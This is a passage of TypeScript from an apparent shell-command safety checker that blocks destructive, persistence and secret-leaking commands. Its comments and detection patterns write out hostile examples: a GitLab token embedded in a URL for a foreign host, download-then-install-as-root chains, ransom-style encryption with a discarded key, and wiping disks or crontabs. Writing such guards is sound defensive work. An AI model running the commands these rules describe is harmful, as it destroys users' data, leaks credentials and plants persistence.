    const g = segs.findIndex((s) => /[*?[]|[!@+]\(/.test(s));
    // /home/*/.ssh/id_*: a glob in the middle with fixed names after it is that path in any of the matches.
    const fixedAfter = g >= 0 && segs.slice(g + 1).some((x) => x !== '' && !/[*?[]/.test(x));
    if (fixedAfter) {
      const last = segs[segs.length - 1];
      wholeDir = /^(\*|\.\*|\*\.\*)$/.test(last);
      p = wholeDir ? segs.slice(0, -1).join('/') : p;
    } else if (g >= 0) {
      const globSeg = segs[g];
      // !(keep) (extglob) matches everything but a few names: as good as *.
      wholeDir = g === segs.length - 1 && /^(\*|\.\*|\.\[[!^]\.\]\*|\.\?\*|\.\?\?\*|\*\.\*|\.?\*\/?|!\(.*\)|[*+]\(.*\))$/.test(globSeg);
      p = segs.slice(0, g).join('/') || (p.startsWith('/') ? '/' : '.');
      // A glob right under / that matches top-level directories (/???, /e*, /[a-z]*) deletes them.
      const top = p === '/' && !wholeDir ? TOP_LEVEL_NAMES.find((n) => globMatches(globSeg, n)) : undefined;
      if (top) p = `/${top}`;
      else if (!wholeDir) p = `${p}/${globSeg}`;
    }
  }
  if (!p.startsWith('/') && inv.cwd === null) return { word: w, abs: null, wholeDir };
  return { word: w, abs: resolveFrom(inv.cwd ?? '/', p), wholeDir };
}

const SHORT = (t: string, letters: string) => /^-[a-zA-Z]+$/.test(t) && [...letters].some((c) => t.includes(c));

function checkInvocation(walk: Walk, inv: Invocation): void {
  const env = walk.env;
  const name = inv.argv[0] ?? '';
  const args = inv.argv.slice(1);

  checkRedirects(walk, inv);
  checkPipelineIntoShell(walk, inv);
  checkSubstitutionsRun(walk, inv);

  if (inv.elevated) warn(walk, 'suspicious', `runs with root privileges (sudo ${name})`);
  if (SENDERS.has(name)) checkExfiltration(walk, inv);
  else checkSecretReachesNetwork(walk, inv);
  checkOutputSubstitutions(walk, inv);
  checkServices(walk, inv);
  // wget -O x.deb URL && sudo apt install ./x.deb (dpkg -i, rpm -i, dnf, installer -pkg, pip install x.whl…): a package downloaded
  // on the line is installed, its maintainer scripts run as root: download-and-run.
  if (/^(apt|apt-get|dpkg|gdebi|rpm|dnf|yum|zypper|pacman|installer|snap|flatpak|pip|pip3|npm|brew|msiexec)$/.test(name) && inv.cwd !== null) {
    const pkg = operands(inv.words).find((w) => !w.dynamic && walk.files.get(resolveFrom(inv.cwd!, w.text.replace(/^~(?=\/)/, walk.env.home)))?.downloaded);
    if (pkg) block(walk, 'dangerous', `${name} installs ${pkg.text}, which was downloaded on the same line: its install scripts run unreviewed${inv.elevated ? ', as root' : ''}`, 'download it, check its signature or checksum, then install it in a separate step');
  }
  // git ls-remote "https://oauth2:${GITLAB_TOKEN}@x.example.net/…": a service's token in a URL for a host not of that service.
  const tokenUrl = inv.argv.slice(1).map((a) => /^[a-z+]+:\/\/([^/@\s]*)@([^/:?#\s]+)/i.exec(a)).find((m) => m !== null && varNames(m[1]).some((v) => VAR_HOSTS.some(([re, hosts]) => re.test(v) && !hosts.test(m[2]))));
  if (tokenUrl) block(walk, 'dangerous', `${name} puts ${tokenUrl[1]} in a URL for ${tokenUrl[2]}, a host not of that service: the token is sent there`, 'use the token only with the service that issued it');
  for (const f of [...serviceFindings(withStdinSql(inv), inv.assigned ?? []), ...hostingFindings(inv.argv, inv.viaXargs ? inv.upstream.map((u) => u.argv) : null)]) (f.level === 'block' ? block : warn)(walk, f.level === 'block' ? 'dangerous' : 'suspicious', f.reason);
  const storeInv = { argv: inv.argv, assigned: inv.assigned ?? [], stdin: stdinText(inv), viaXargs: inv.viaXargs, upstream: inv.upstream.map((u) => u.argv) };
  for (const f of storeFindings(storeInv)) block(walk, 'dangerous', f.reason, 'let the user run it after checking what it removes');
  // aws s3 sync URL . --delete, rclone sync SRC ./: the local destination loses what the source lacks, as with rsync --delete.
  const syncDst = syncDeleteDestination(inv.argv);
  const syncWord = syncDst === null ? undefined : inv.words.find((w) => w.text === syncDst);
  if (syncWord) checkDelete(walk, inv, { ...target(inv, syncWord), wholeDir: true }, false, `${name} sync with delete`);
  const destroyed = destroyFinding(inv.argv, inv.upstream.some((u) => u.argv[0] === 'yes' || (/^(echo|printf)$/.test(u.argv[0]) && /^y(es)?(\\n)?$/i.test(u.argv[u.argv.length - 1] ?? ''))));
  if (destroyed) block(walk, 'dangerous', destroyed, 'let the user run it after checking what it destroys');
  const wiped = deviceWipe(inv.argv);
  if (wiped) block(walk, 'dangerous', wiped, 'let the user wipe their device themselves');
  const infra = infraMayMatch(name) || inv.argv.some((a) => a.includes('tfstate')) ? infraDestroyFinding(inv.argv, walk.out.map((i) => i.argv)) : null;
  if (infra) block(walk, 'dangerous', infra, 'let the user run it after checking what it removes');
  const inPlace = inPlaceMayMatch(inv.argv.slice(0, 2).join(" ")) ? inPlaceLoss(inv.argv, operands(inv.words).map((w) => target(inv, { ...w, text: w.text.replace(/^~(?=\/|$)/, walk.env.home) }).abs), walk.env) : null;
  if (inPlace) block(walk, 'dangerous', inPlace, 'work on copies (cp -r ~/Pictures/album /tmp/work) and keep the originals');
  if (vcsServerMayMatch(name)) for (const f of vcsServerFindings(inv.argv, inv.viaXargs)) (f.level === 'block' ? block : warn)(walk, f.level === 'block' ? 'dangerous' : 'suspicious', f.reason, 'let the user run it after checking what it removes (p4 … -n previews)');
  const sentFile = sqlSentFiles(storeInv).map((f) => resolveFrom(inv.cwd ?? walk.env.cwd, f.replace(/^~(?=\/|$)/, walk.env.home))).find((f) => isSecret(walk, f));
  if (sentFile) block(walk, 'dangerous', `${name} loads the secret ${sentFile} into a store elsewhere: secrets must not leave this machine`, 'never send credentials anywhere; if a service needs one, the user configures it');
  for (const f of mayHaveWindowsFindings(inv.argv) ? windows().windowsFindings(inv.argv) : []) (f.level === 'block' ? block : warn)(walk, f.level === 'block' ? 'dangerous' : 'suspicious', f.reason);
  for (const f of [...(mayBeFramework(inv.argv) ? framework().frameworkFindings(inv.argv, inv.assigned ?? []) : []), ...(mayWipeRemote(inv.argv) ? framework().remoteWipeFindings(inv.argv) : [])]) (f.level === 'block' ? block : warn)(walk, f.level === 'block' ? 'dangerous' : 'suspicious', f.reason);
  checkServesSecrets(walk, inv);
  // Files encrypted with a key drawn at random and kept nowhere ($RANDOM, openssl rand, /dev/urandom), the originals
  // deleted on the same line: ransom-style, the data can never be read again.
  const encrypts = /^(openssl|gpg|gpg2|zip|7z|7za|age|ccrypt|scrypt|aescrypt)$/.test(name) && (name !== 'openssl' || /^(enc|aes|des|chacha|camellia)/.test(inv.argv[1] ?? ''));
  if (encrypts && inv.words.some((w) => /\$\{?RANDOM\b/.test(w.text) || w.subs.some((sub) => /\/dev\/u?random|openssl\s+rand|uuidgen|pwgen|\$RANDOM|mktemp/.test(sub))) && walk.out.some((i) => /^(rm|shred|srm|unlink)$/.test(i.argv[0]) || (i === inv && i.argv.some((a) => (/^7za?$/.test(name) ? a === '-sdel' : name === 'zip' && /^-[a-zA-Z]*m[a-zA-Z]*$/.test(a)))))) {
    block(walk, 'dangerous', `${name} encrypts with a key drawn at random and kept nowhere, and the line deletes the originals: the data can never be read again`, 'encrypt with a key the user holds, and keep the originals until the result is checked');
  }

  switch (name) {
    case 'rm':
    case 'srm': {
      const recursive = args.some((a) => SHORT(a, 'rR') || a === '--recursive');
      if (args.includes('--no-preserve-root')) block(walk, 'dangerous', 'rm --no-preserve-root removes the safeguard against deleting /');
      const viaX = xargsTargets(walk, inv);
      // find ~ -name "*.lock*" -print0 | xargs -0 rm: what the find lists, spread across the home or /.
      const finder = inv.viaXargs ? inv.upstream.map((u) => listerAsFind(walk, u)).find((u) => u.argv[0] === 'find') : undefined;
      const spread = finder ? findRoots(finder).roots.map((r) => spreadDelete(walk, target(finder, r).abs, findRoots(finder).namePattern, finder.argv)).find((x) => x !== null) : null;
      if (spread) block(walk, 'dangerous', `rm of what find lists deletes ${spread}`, 'delete inside one project, or name the exact files');
      // git status --porcelain | awk '{print $2}' | xargs rm -rf: every modified and every new file, the uncommitted work itself
      // (as checkout -- . with clean -fd). A filter keeping some lines (grep '^??', awk '/dist/') narrows it.
      const status = inv.viaXargs && inv.upstream.some((u) => u.argv[0] === 'git' && gitSub(u.argv).sub === 'status') && !inv.upstream.some((u) => /^(grep|egrep|rg|head)$/.test(u.argv[0]) || (/^[gm]?awk$/.test(u.argv[0]) && u.argv.some((a) => /\/[^/]+\/|\$1\s*[!=]=|\bif\b/.test(a))) || (u.argv[0] === 'sed' && u.argv.includes('-n')));
      if (status) block(walk, 'dangerous', 'rm of every path git status lists deletes the uncommitted changes and every new file: all work since the last commit', 'git stash -u keeps it and can be dropped later');
      const targets = viaX?.targets ?? operands(inv.words).map((w) => target(inv, w));
      for (const t of targets) checkDelete(walk, inv, t, recursive || (viaX?.recursive ?? false), 'rm');
      // rm $(find ~ …), for f in $(find ~); do rm "$f": the substitution lists the paths, as xargs would feed them.
      // (Only a word that is the substitution's output alone: "$(git rev-parse --show-toplevel)/coverage" is one path.)
      for (const w of viaX ? [] : operands(inv.words).filter((x) => x.subs.length === 1 && (x.text === '$(…)' || x.text === resolveSubstitution(x.subs[0], parseEnv(walk, inv.cwd))))) for (const sub of w.subs) {
        const fed = substitutionItems(walk, inv, sub);
        if (fed) for (const t of fed.items) checkDelete(walk, inv, t, recursive || fed.recursive, 'rm');
      }
      if (recursive) critical(walk, `rm ${args.join(' ')}`);
      break;
    }
    case 'zip': {
      // zip -m (--move) deletes each source once it is in the archive; with -r, whole trees.
      if (!args.some((a) => /^-[a-zA-Z]*m[a-zA-Z]*$|^--move$/.test(a))) break;
      const ops = operands(inv.words, new Set(['-P', '--password', '-b', '-n', '-t', '-tt', '-x', '-i', '-O', '--out']));
      for (const w of ops.slice(1)) checkDelete(walk, inv, target(inv, w), args.some((a) => /^-[a-zA-Z]*r/.test(a)), 'zip -m');
      break;
    }
    case 'rmdir':
    case 'unlink':
    case 'truncate':
    case 'shred': {
      // find . | xargs shred -u: the items xargs is fed are destroyed as rm would delete them.
      const fed = name !== 'rmdir' && inv.viaXargs ? xargsItems(walk, inv) : null;
      // shred -u $(git ls-files), git ls-files | xargs truncate -s 0: every tracked file of the project destroyed.
      const lists = (c: string) => /^\s*git\s+ls-files(\s+-[-\w]+)*\s*$/.test(c);
      if (name !== 'rmdir' && (inv.words.some((w) => w.subs.length === 1 && lists(w.subs[0]) && /^\$\(|^`/.test(w.text.trim())) || (inv.viaXargs && inv.upstream.some((u) => lists(u.argv.join(' ')))))) {
        block(walk, 'dangerous', `${name} over every file git tracks destroys the project's sources`, 'name the files to clear');
        break;
      }
      if (fed) for (const t of fed.items) checkDelete(walk, inv, t, fed.recursive, name);
      for (const w of operands(inv.words, new Set(['-s', '-n', '--size', '--iterations']))) {
        const t = target(inv, w);
        // truncate -s 0 /var/lib/docker/containers/*/*-json.log: a container's own output log emptied (the usual fix for a full
        // disk); the containers run on. (The system's logs under /var/log are its audit trail and stay protected.)
        const logs = name === 'truncate' && t.abs !== null ? /^\/var\/lib\/(docker|containers)\/containers\/([^/]+\/[^/]*\.log(\.\d+)?|…)$/.exec(w.text.startsWith('/') ? w.text : t.abs) : null;
        if (logs && (logs[2] !== '…' || walk.out.some((i) => i.argv[0] === 'find' && i.argv.some((a, k) => /^-i?name$/.test(i.argv[k - 1] ?? '') && /\.log$/.test(a))))) {
          warn(walk, 'suspicious', `truncate empties container logs (${t.abs}): their text is lost`, 'set a log size limit instead (--log-opt max-size=10m)');
          continue;
        }
        if (t.abs && isDiskDevice(t.abs)) block(walk, 'dangerous', `${name} on the disk device ${t.abs} destroys its data`, 'check the device with lsblk first; nothing on a disk device can be undone');
        else {
          // (-s 100: cut to a few bytes, the data beyond them gone as with -s 0.)
          const cut = inv.argv.map((a, k) => /^(?:-s|--size=)(\d+)$/.exec(a)?.[1] ?? (/^(-s|--size)$/.test(inv.argv[k - 1] ?? '') ? /^(\d+)$/.exec(a)?.[1] : undefined)).find((x) => x !== undefined);
          if (name === 'truncate' && cut !== undefined && Number(cut) < 4096) checkEmptied(walk, t, `truncate -s ${cut}`);
          checkWrite(walk, inv, t, name);
          // What shred overwrites is gone as if deleted (.git/objects/pack/*).
          if (name === 'shred' || name === 'truncate') checkDelete(walk, inv, t, false, name);
          if (name === 'shred' && t.abs !== null && dataFileEmptied(t.abs, walk.env)) checkEmptied(walk, t, 'shred');
          // shred of keys, tokens or the shell history: destroyed beyond recovery, on purpose.
          if (name === 'shred' && t.abs !== null && isUnder(t.abs, walk.env.home) && !isUnder(t.abs, walk.env.project) && isSecretSource(t.abs, walk.env)) block(walk, 'dangerous', `shred destroys ${t.abs} beyond recovery`);
        }
      }
      break;
    }
    case 'mv': {
      const ops = operands(inv.words, new Set(['-t', '-S', '--target-directory', '--suffix']));
      const tIdx = inv.argv.findIndex((a) => a === '-t' || a === '--target-directory');
      const dest = tIdx > 0 ? inv.words[tIdx + 1] : ops[ops.length - 1];
      const sources = tIdx > 0 ? ops.filter((w) => w !== dest) : ops.slice(0, -1);
      const d = dest ? target(inv, dest) : null;
      // mv ~/.kube/config ~/.kube/config.old: a secret renamed beside itself stays where it was kept.
      // mv ~/.ssh/id_rsa ~/.ssh/retired/: keys put away in a directory of their own store are kept, not deleted.
      const beside = d !== null && sources.length > 0 && sources.every((s) => besideItself(walk, target(inv, s).abs, d.abs) || keptInStore(walk, target(inv, s).abs, d.abs));
      // mv ~/Downloads/AuthKey_X.p8 ~/.appstoreconnect/private_keys/: a key put where its tool looks for it is kept, not lost
      // (moved to a temp directory it is on its way out: judged as a delete).
      const keptKey = (s: Word) => { const a = target(inv, s).abs; return a !== null && d?.abs != null && (isKeyMaterial(a) || isSecretSource(a, walk.env)) && (isUnder(d.abs, walk.env.home) || isUnder(d.abs, walk.env.project)) && (holdsHomeSecret(d.abs, walk.env) || isSecretSource(d.abs, walk.env) || isSecretSource(path.posix.dirname(d.abs), walk.env)); };
      if (!beside) for (const s of sources) if (!keptKey(s)) checkDelete(walk, inv, target(inv, s), true, 'mv');
      // Remember what moved where: a later delete of the new path deletes what was moved there.
      if (d?.abs) for (const src of sources) {
        const abs = target(inv, src).abs;
        if (abs === null) continue;
        walk.movedFrom.set(d.abs, abs);
        walk.movedFrom.set(`${d.abs}/${path.posix.basename(abs)}`, abs);
      }
      if (dest && d) {
        if (d.abs === '/dev/null' && sources.length > 0) block(walk, 'dangerous', `mv onto /dev/null destroys ${sources.map((s) => s.text).join(' ')}`);
        else if (!beside) checkWrite(walk, inv, d, 'mv', sources);
        if (d.abs && !beside && (tIdx > 0 || dest.text.endsWith('/') || d.abs === walk.env.home || sources.length > 1)) {
          for (const w of sources) {
            const sAbs = target(inv, w).abs;
            if (sAbs) checkWrite(walk, inv, { ...d, abs: `${d.abs}/${path.posix.basename(sAbs)}` }, 'mv', [w]);
          }
        }
      }
      break;
    }
    case 'cp':
    case 'install':
    case 'ln':
    case 'rsync':
    case 'scp': {
      const argOpts = new Set(['-t', '-S', '-m', '-o', '-g', '--target-directory', '--suffix', '--mode', '--owner', '--group', '-e', '--exclude', '--include', '-P', '-i']);
      const ops = operands(inv.words, argOpts);
      const tIdx = inv.argv.findIndex((a) => a === '-t' || a === '--target-directory');
      const dest = tIdx > 0 ? inv.words[tIdx + 1] : ops.length >= 2 || name === 'install' ? ops[ops.length - 1] : undefined;
      const srcs = ops.filter((w) => w !== dest);
      // cp ~/.kube/config ~/.kube/config.bak: a backup beside the file (or the file back from it) sends nothing anywhere.
      const d = dest ? target(inv, dest) : null;
      const beside = d !== null && srcs.length > 0 && name !== 'scp' && srcs.every((w) => besideItself(walk, target(inv, w).abs, d.abs));
      if (dest && d && !beside) checkWrite(walk, inv, d, name, name === 'ln' ? srcs.slice(0, 1) : srcs);
      if (d && srcs.length === 1 && srcs[0].text === '/dev/null' && name === 'cp') checkEmptied(walk, d, `${name} /dev/null`);
      // A key or token copied into what a web server serves (/var/www, public_html, the site's public/ or static/): published.
      const served = d?.abs && /^\/(var|srv)\/www\/|^\/usr\/share\/nginx\/html\/|\/public_html\/|^\/var\/www$/.test(`${d.abs}/`) ? srcs.find((w) => isSecret(walk, target(inv, w).abs)) : undefined;
      if (served) block(walk, 'dangerous', `${name} puts the secret ${target(inv, served).abs} where the web server serves it (${d!.abs}): anyone can download it`, 'secrets stay out of the document root');
      // Into a group's or the cluster's shared area (/project/GROUP/shared, /scratch/shared): every member reads it.
      const area = !served && d?.abs && !isUnder(d.abs, walk.env.project) ? sharedArea(d.abs) : null;
      const handed = area ? srcs.find((w) => isSecret(walk, target(inv, w).abs)) : undefined;
      if (handed) block(walk, 'dangerous', `${name} puts the secret ${target(inv, handed).abs} into ${d!.abs}, on the shared area ${area} that other users read`, 'keys and credentials stay in the home, readable by their owner only');
      // Into a directory (DIR/, ~, -t DIR, several sources): each source lands as DIR/ITS-NAME (cp /tmp/x/.zshrc ~/).
      if (d?.abs && (tIdx > 0 || dest!.text.endsWith('/') || d.abs === walk.env.home || srcs.length > 1)) {
        for (const w of srcs) {
          const sAbs = target(inv, w).abs;
          if (sAbs) checkWrite(walk, inv, { ...d, abs: `${d.abs}/${path.posix.basename(sAbs)}` }, name, [w]);
        }
      }
      // rsync -a dotfiles/ ~/ --include='.bashrc', cp -r dotfiles/. ~: a directory's contents land in the home; the names its
      // filters let through, and the start-up files a dotfiles directory holds, are written there.
      if (d?.abs === walk.env.home && (name === 'rsync' || name === 'cp')) {
        const included = inv.argv.map((a, k) => /^--include=(.+)$/.exec(a)?.[1] ?? (inv.argv[k - 1] === '--include' ? a : undefined)).filter((x): x is string => x !== undefined && /^\.?[\w.-]+$/.test(x));
        const dotfiles = srcs.some((w) => /(^|\/)\.?dotfiles(\/\.?)?$/.test(w.text));
        for (const n of [...included, ...(dotfiles ? ['.bashrc'] : [])]) checkWrite(walk, inv, { ...d, abs: `${d.abs}/${n}` }, name, srcs);
      }
      for (const src of srcs) checkRead(walk, inv, target(inv, src), name);
      if (d?.abs && srcs.length === 1 && (name === 'cp' || name === 'install')) walk.copiedFrom.set(d.abs, base(srcs[0].text));
      if (name === 'rsync' && args.some((a) => a.startsWith('--delete') || a === '--del')) {
        critical(walk, `rsync --delete`);
        // The destination loses everything the source lacks: as bad as deleting its contents.
        if (dest && !/^[^/]*:/.test(dest.text)) checkDelete(walk, inv, { ...target(inv, dest), wholeDir: true }, false, 'rsync --delete');
      }
      break;
    }
    case 'tee':
    case 'touch':
    case 'mkdir':
      for (const w of operands(inv.words, new Set(['-m', '--mode', '-d', '-t', '-r']))) checkWrite(walk, inv, target(inv, w), name);
      break;
    case 'sed':
    case 'perl': {
      if (!args.some((a) => /^-[a-zA-Z0-9]*i/.test(a) || a.startsWith('--in-place'))) {
        for (const w of operands(inv.words, new Set(['-e', '-f']))) checkRead(walk, inv, target(inv, w), name);
        break;
      }
      const hasScriptOpt = args.some((a) => a === '-e' || a === '-f' || a === '--expression');
      const ops = operands(inv.words, new Set(['-e', '-f', '--expression', '--file']));
      for (const w of hasScriptOpt ? ops : ops.slice(1)) checkWrite(walk, inv, target(inv, w), `${name} -i`);
      break;
    }
    case 'dd':
      for (const a of inv.words.slice(1)) {
        if (a.text.startsWith('of=')) {
          const t = target(inv, { ...a, text: a.text.slice(3) });
          if (t.abs && isDiskDevice(t.abs)) block(walk, 'dangerous', `dd writes straight onto the disk device ${t.abs}`, 'check the device with lsblk first and write to an image file instead');
          else checkWrite(walk, inv, t, 'dd');
        }
        if (a.text.startsWith('if=')) checkRead(walk, inv, target(inv, { ...a, text: a.text.slice(3) }), 'dd');
      }
      break;
    case 'chmod':
    case 'chown':
    case 'chgrp':
      checkPermissions(walk, inv);
      break;
    case 'find':
      checkFind(walk, inv);
      break;
    case 'hub':
    case 'git':
      checkGit(walk, inv);
      break;
    case 'curl':
    case 'wget':
    case 'aria2c':
      for (const w of downloadOutputs(inv)) checkWrite(walk, inv, target(inv, w), name);
      break;
    case 'shutdown':
    case 'reboot':
    case 'halt':
    case 'poweroff':
      // shutdown -c cancels a pending shutdown; --help/--version only print.
      if (args.some((a) => a === '-c' || a === '--help' || a === '--version')) break;
      // ssh root@192.168.7.2 reboot: a board or another host restarts, not this machine (production stays refused).
      if (inv.remote && !inv.prod) warn(walk, 'suspicious', `${name} restarts or stops the remote host`);
      else block(walk, 'dangerous', `${name} stops or restarts the machine`);
      break;
    case 'init':
    case 'telinit':
      if (args.some((a) => a === '0' || a === '6')) block(walk, 'dangerous', `${name} ${args.join(' ')} stops or restarts the machine`);
      break;
    case 'systemctl': {
      if (args.some((a) => ['poweroff', 'reboot', 'halt', 'kexec', 'emergency', 'rescue', 'suspend', 'hibernate', 'hybrid-sleep', 'suspend-then-hibernate', 'soft-reboot', 'isolate'].includes(a))) block(walk, 'dangerous', `systemctl ${args.join(' ')} stops or restarts the machine (or puts it to sleep)`);
      // A unit enabled for the user (or every user) starts at each login by itself, with no one watching.
      const persist = args.some((a) => /^(enable|reenable|link|add-wants|add-requires|preset|preset-all)$/.test(a));
      const unitFile = args.find((a) => /^\/(tmp|var\/tmp|dev\/shm)\/|^~|^\.\//.test(a) && /\.(service|timer|socket|path)$/.test(a));
      if (persist && unitFile) block(walk, 'dangerous', `systemctl ${args.join(' ')} enables the unit file ${unitFile} from outside the system's unit directories: it starts by itself from now on`);
      else if (persist && args.some((a) => a === '--user' || a === '--global') && !args.filter((a) => !a.startsWith('-') && !/^(enable|reenable|link|preset|add-wants|add-requires)$/.test(a)).every((u) => PACKAGED_USER_UNITS.test(u.replace(/\.(service|socket|timer)$/, '')) && !walk.files.has(u))) block(walk, 'dangerous', `systemctl ${args.join(' ')} makes a user service start by itself at every login: a way to stay on the machine`, 'show the user the unit and let them enable it');
      else if (persist) warn(walk, 'suspicious', `systemctl ${args.join(' ')} makes a service start at every boot`);
      break;
    }
    case 'launchctl':
      // launchctl load/bootstrap/submit/enable: a launchd agent or daemon that starts by itself (Homebrew's own services aside).
      if (/^(load|bootstrap|submit|enable)$/.test(args.find((a) => !a.startsWith('-')) ?? '') && !args.some((a) => /homebrew\.mxcl\./.test(a))) {
        block(walk, 'dangerous', `launchctl ${args.join(' ')} installs a launchd job that starts by itself: a way to stay on the machine`, 'brew services start NAME for Homebrew services; otherwise ask the user');
      }
      break;
    case 'loginctl':
      if (args.some((a) => /^(terminate-user|kill-user|terminate-session|kill-session|poweroff|reboot|suspend|hibernate)$/.test(a))) block(walk, 'dangerous', `loginctl ${args.join(' ')} ends the user's sessions or stops the machine`);
      else if (args.includes('enable-linger')) block(walk, 'dangerous', 'loginctl enable-linger keeps the user\'s services running after logout and starts them at boot: a way to stay on the machine');
      break;
    case 'kill':
    case 'pkill':
    case 'killall': {
      // kill [-SIG | -s SIG | -n N] [--] PID...: the first option is the signal, the rest are targets.
      let k = 0;
      let signal: string | null = null;
      if (args[0] === '-s' || args[0] === '-n') {
        signal = args[1] ?? null;
        k = 2;
      } else if (args[0]?.startsWith('-') && args[0] !== '--') {
        signal = args[0].slice(1);
        k = 1;
      }
      if (args[k] === '--') k++;
      const pids = args.slice(k);
      if (name === 'kill' && pids.some((p) => p === '-1' || p === '1')) block(walk, 'dangerous', 'kill -1 / kill 1 signals every process (or init)');
      else if (name !== 'kill' && pids.some((p) => /^(\.|\.\*|\.\+|\^|\$|)$/.test(p)) && pids.length > 0) block(walk, 'dangerous', `${name} ${args.join(' ')} matches every process on the machine`);
      else if (signal !== null && /^(9|KILL|SIGKILL)$/.test(signal)) warn(walk, 'suspicious', `${name} -9 gives the process no chance to clean up`, `try ${name} (SIGTERM) first`);
      break;
    }
    case 'killall5':
      block(walk, 'dangerous', 'killall5 signals every process on the machine');
      break;
    case 'crontab': {
      const ops = operands(inv.words, new Set(['-u']));
      // crontab -e with EDITOR/VISUAL set to a program that is no editor (sed -i, tee, cp, sh -c): the crontab is rewritten unattended.
      const editor = args.includes('-e') ? [...(inv.assigned ?? []), ...['VISUAL', 'EDITOR'].map((n) => (walk.vars.has(n) ? `${n}=${walk.vars.get(n)!.text}` : ''))].map((a) => /^(?:VISUAL|EDITOR)=(.*)$/s.exec(a)?.[1]).find((v) => v !== undefined && v.trim() !== '') : undefined;
      if (args.some((a) => /^-[a-zA-Z]*r/.test(a))) block(walk, 'dangerous', 'crontab -r deletes every cron job of the user without asking', 'crontab -l > crontab.bak first, then crontab -e to remove the one job');
      else if (editor !== undefined && !/^\s*['"]?(\S*\/)?(vi|vim|nvim|view|nano|pico|emacs|emacsclient|code|codium|subl|mate|micro|hx|helix|kak|joe|jed|mg|ne|gedit|kate|mousepad|xed|gvim|mvim|nvi|zile|true)(\s|['"]|$)/.test(editor)) block(walk, 'dangerous', `crontab -e with the editor \`${editor.slice(0, 60)}\` rewrites the user's crontab without anyone editing it: jobs put there run unattended`, 'show the user the line and let them add it with crontab -e');
      else if (!args.some((a) => a === '-l' || a === '-e') && (ops.length > 0 || inv.upstream.length > 0 || inv.redirects.some((r) => r.op === '<' || r.body !== undefined))) {
        if (ops.length === 0) ops.push({ ...inv.words[0], text: '-' });
        block(walk, 'dangerous', `crontab ${ops[0].text} replaces the user's whole crontab${ops[0].text === '-' ? ' with text from the pipe' : ''}: jobs installed this way run unattended`, 'show the user the line and let them add it with crontab -e');
      }
      break;
    }
    case 'history':
      // history -c then history -w: the emptied list written over the history file.
      if (args.includes('-c') && walk.out.some((i) => i.argv[0] === 'history' && i.argv.some((a) => /^-[a-zA-Z]*w/.test(a)))) block(walk, 'dangerous', 'history -c and history -w write an empty history over the history file: the shell history is destroyed');
      else if (args.includes('-c')) warn(walk, 'suspicious', 'history -c erases the shell history');
      break;
    case 'iptables':
    case 'ip6tables':
    case 'nft':
    case 'ufw':
      if (args.some((a) => a === '-F' || a === '--flush' || a === 'flush' || a === 'disable' || a === 'reset')) block(walk, 'dangerous', `${name} ${args.join(' ')} removes the firewall rules of the machine`, 'change the one rule that is needed');
      break;
    case 'usermod':
    case 'gpasswd':
    case 'adduser':
      if (args.some((a) => /^(sudo|wheel|root|admin|adm|disk|shadow)$/.test(a)) || args.some((a) => a === '-o' || a === '--non-unique')) block(walk, 'dangerous', `${name} ${args.join(' ')} grants administrator rights`);
      // usermod -p '' (--password=): an account anyone logs into; -p HASH: one whose password the line's author knows.
      else if (name === 'usermod' && args.some((a, k) => /^(-p|--password)$/.test(args[k - 1] ?? '') || /^--password=|^-p./.test(a))) {
        const v = args.find((a, k) => /^(-p|--password)$/.test(args[k - 1] ?? '') || /^--password=|^-p./.test(a))!.replace(/^--password=|^-p/, '');
        block(walk, 'dangerous', `usermod ${args.join(' ')} ${v === '' ? 'empties the account\'s password: anyone can log in as it' : 'sets the account\'s password to a hash given on the line'}`, 'let the user change passwords with passwd');
      }
      // The docker group is Docker's own post-install step, though as strong as root: said, not refused.
      else if (args.some((a) => a === 'docker')) warn(walk, 'suspicious', `${name} ${args.join(' ')}: members of the docker group can become root`);
      break;
    case 'passwd':
    case 'chpasswd':
      if (args.some((a) => a === '-d' || a === '--delete') || name === 'chpasswd') block(walk, 'dangerous', `${name} ${args.join(' ')} changes or removes account passwords`);
      break;
    case 'userdel':
    case 'deluser':
      block(walk, 'dangerous', `${name} ${args.join(' ')} deletes a user account${args.some((a) => a === '-r' || a === '--remove' || a === '--remove-home') ? ' and its home directory' : ''}`);
      break;
    case 'visudo':
      // visudo -c (--check) only parses the sudoers files and says whether they are valid.
      if (!args.some((a) => /^-[a-zA-Z]*c[a-zA-Z]*$|^--check$/.test(a))) block(walk, 'dangerous', 'visudo edits who may run commands as root');
      break;
    case 'chattr':
      checkChattr(walk, inv);
      break;
    case 'setfacl': {
      const recursive = args.some((a) => SHORT(a, 'R') || a === '--recursive');
      const specs = inv.argv.flatMap((a, k) => (/^(-[a-zA-Z]*[mM]|--modify|--set)$/.test(inv.argv[k - 1] ?? '') && k > 1 ? [a] : /^--(modify|set)=/.test(a) ? [a.slice(a.indexOf('=') + 1)] : []));
      const grants = specs.some(aclGrants) || inv.argv.some((a, k) => /^(-M|--modify-file|--set-file)$/.test(inv.argv[k - 1] ?? ''));
      for (const w of operands(inv.words, new Set(['-m', '-M', '-x', '-X', '--modify', '--remove', '--set', '--set-file', '--modify-file', '--remove-file']))) {
        const t = target(inv, w);
        if (t.abs === null) continue;
        const c = classifyDelete(t.abs, walk.env);
        if (c && recursive && c !== 'project') block(walk, 'dangerous', `setfacl -R on ${t.abs} changes the permissions of a tree the system or the user depends on`);
        // setfacl -m u:deploy:rx /var/log/nginx: read access to logs for one account.
        else if (isSystemPath(t.abs, walk.env.home) && !recursive && /^\/var\/log\//.test(t.abs) && specs.length > 0 && specs.every((x) => /^(d:)?[ug]:[\w.-]+:[rxX-]*$/.test(x))) warn(walk, 'system', `setfacl ${specs.join(' ')} lets one account read ${t.abs}`);
        else if (isSystemPath(t.abs, walk.env.home) && !(isUserDeviceNode(t.abs) && !recursive)) block(walk, 'system', `setfacl on the system path ${t.abs}`);
        else if (grants && isSecret(walk, t.abs) && !isSharedSshFile(t.abs)) block(walk, 'dangerous', `setfacl ${specs.join(' ')} on ${t.abs} opens a secret to other users`, 'keys and credentials stay readable by their owner only');
        else if (grants && recursive && isPreciousHomeDir(t.abs, walk.env)) block(walk, 'dangerous', `setfacl -R on ${t.abs} opens the user's keys, settings or files to others`);
        // setfacl -R -m o::rwx /project/GROUP: every user of the machine may change or delete the group's data (chmod -R 777's kin).
        else if (recursive && specs.some((x) => /(^|,)(d(efault)?:)?o(ther)?:[^:,]*:?[rwxX-]*w/.test(x)) && sharedMountLoss(t.abs, walk.env)) block(walk, 'dangerous', `setfacl ${specs.join(' ')} gives every user write access to ${sharedMountLoss(t.abs, walk.env)}: anyone can change or delete that data`, 'grant the one account or group that needs it (u:NAME:rwX)');
      }
      break;
    }
    case 'setenforce':
